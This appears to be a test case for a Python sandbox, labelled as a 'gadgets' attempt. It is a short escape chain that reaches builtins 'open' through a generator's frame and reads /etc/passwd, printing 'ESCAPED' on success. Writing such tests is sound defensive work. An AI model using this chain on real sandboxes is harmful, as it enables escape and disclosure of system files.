# tries: an attribute two functions deep in a class in a function
# class: gadgets
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(frame):
    if frame is not None:
        print("REACHED")
    return getattr(frame, "f_" + "builtins")["open"]


def outer():
    class C:
        def m(self, x=lambda g: (lambda: g.gi_frame)()):
            return x

    return C().m()


use(pick(outer()(x for x in ())))
